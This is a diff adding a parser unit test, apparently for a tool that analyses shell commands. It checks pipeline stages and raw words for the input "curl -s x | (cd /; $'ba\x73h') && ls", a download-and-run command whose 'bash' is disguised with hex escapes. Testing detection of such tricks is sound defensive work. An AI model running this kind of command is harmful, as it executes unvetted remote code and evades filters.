@@ -318,3 +318,17 @@ describe('failures', () => {
     expect(parser.parse('').direct).toBeUndefined();
   });
 });
+
+describe('extra command fields', () => {
+  it('keeps raw words and pipeline positions', () => {
+    const r = parser.parse("curl -s x | (cd /; $'ba\\x73h') && ls");
+    expect(r.commands.map((c) => [c.name, c.pipeline?.stage])).toEqual([
+      ['curl', 0],
+      ['cd', 1],
+      ['bash', 1],
+      ['ls', undefined],
+    ]);
+    expect(r.commands[2]!.rawWords).toEqual(["$'ba\\x73h'"]);
+    expect(r.commands[0]!.pipeline!.id).toBe(r.commands[2]!.pipeline!.id);
+  });
+});
